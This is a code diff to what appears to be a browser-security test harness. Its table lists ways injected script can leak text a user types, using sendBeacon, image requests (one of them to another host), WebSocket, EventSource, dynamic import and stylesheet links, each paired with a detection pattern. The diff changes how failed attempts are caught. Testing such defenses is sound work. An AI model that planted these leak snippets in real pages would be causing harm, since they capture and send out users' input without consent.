@@ -17,7 +17,7 @@ export const LEAKS = [
   { name: 'a beacon', caught: /^(?:server: request|sendBeacon)/, act: "navigator.sendBeacon('/leak', text)" },
   { name: 'an image', caught: /^(?:server: request|HTMLImageElement)/, act: `new Image().src = ${query}` },
   { name: 'an image of another host', caught: /^(?:server: request|HTMLImageElement)/, act: `new Image().src = ${foreign}` },
-  { name: 'a socket', caught: /^(?:server: upgrade|WebSocket)/, act: 'try { new WebSocket(`ws://${location.host}/leak?typed=${encodeURIComponent(text)}`) } catch { /* Firefox throws where the policy blocks. */ }' },
+  { name: 'a socket', caught: /^(?:server: upgrade|WebSocket)/, act: 'new WebSocket(`ws://${location.host}/leak?typed=${encodeURIComponent(text)}`)' },
   { name: 'a stream of events', caught: /^(?:server: request|EventSource)/, act: `new EventSource(${query})` },
   { name: 'an imported script', caught: /^(?:server: request|violation|browser: (?:request|console))/, act: `import(${query}).catch(() => {})` },
   { name: 'a style sheet', caught: /^(?:server: request|HTMLLinkElement|attribute)/, act: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: ${query} }))` },
@@ -62,7 +62,11 @@ export function scriptOf({ act, room, isEarly = false }, datagramPort) {
   addEventListener(${room === 'trace' ? "'change'" : "'input'"}, ({ target }) => {
     const text = ${typed};
     if (!text || Boolean(isReady()) === ${isEarly}) return;
-    ${act.replaceAll('UDP_PORT', datagramPort)};
+    try {
+      ${act.replaceAll('UDP_PORT', datagramPort)};
+    } catch {
+      // Firefox and WebKitGTK throw where a policy blocks; that it was tried must be found all the same.
+    }
   }, true);
 })();`;
 }
